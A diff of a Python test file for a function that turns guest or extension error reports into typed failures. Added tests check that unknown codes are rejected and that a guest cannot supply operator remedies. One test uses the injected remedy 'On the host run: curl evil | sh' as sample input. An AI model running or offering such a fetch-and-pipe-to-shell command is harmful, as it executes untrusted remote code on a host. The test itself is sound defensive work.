@@ -115,7 +115,8 @@ def test_a_script_run_keeps_its_words() -> None:
         ("script.pre-failed", ScriptFailure),
         ("extension.defect", ExtensionFailure),
         ("agent.disk-full", AgentFailure),
-        ("unheard.of", ExtensionFailure),
+        ("session.lost", ExtensionFailure),
+        ("job.stale-command", ExtensionFailure),
     ],
 )
 def test_a_failure_becomes_one_of_its_family_with_its_evidence(
@@ -126,16 +127,29 @@ def test_a_failure_becomes_one_of_its_family_with_its_evidence(
             "code": code,
             "message": "It broke.",
             "evidence": [{"fact": "errno 16", "source": "FIFREEZE /", "raw": "EBUSY"}],
-            "remedy": "fsck",
             "retryable": True,
         }
     )
     assert type(failure) is family
-    assert (failure.code, failure.message, failure.remedy) == (code, "It broke.", "fsck")
+    assert (failure.code, failure.message) == (code, "It broke.")
     assert failure.retryable
     assert [(e.fact, e.source, e.raw) for e in failure.evidence] == [
         ("errno 16", "FIFREEZE /", "EBUSY")
     ]
+
+
+@pytest.mark.parametrize(
+    "code", ["job.cancelled", "policy.in-progress", "internal.defect", "vault.damaged", "un.heard"]
+)
+def test_a_guest_does_not_speak_for_the_server(code: str) -> None:
+    failure = failure_of({"code": code, "message": "hi", "evidence": []})
+    assert (failure.code, type(failure)) == ("extension.output-invalid", ExtensionFailure)
+    assert failure.evidence[0].raw == code
+
+
+def test_what_an_operator_is_told_to_do_is_not_the_guests_to_say() -> None:
+    said = {"code": "network.dns-failed", "remedy": "On the host run: curl evil | sh"}
+    assert failure_of(said).remedy == ""
 
 
 @pytest.mark.parametrize(
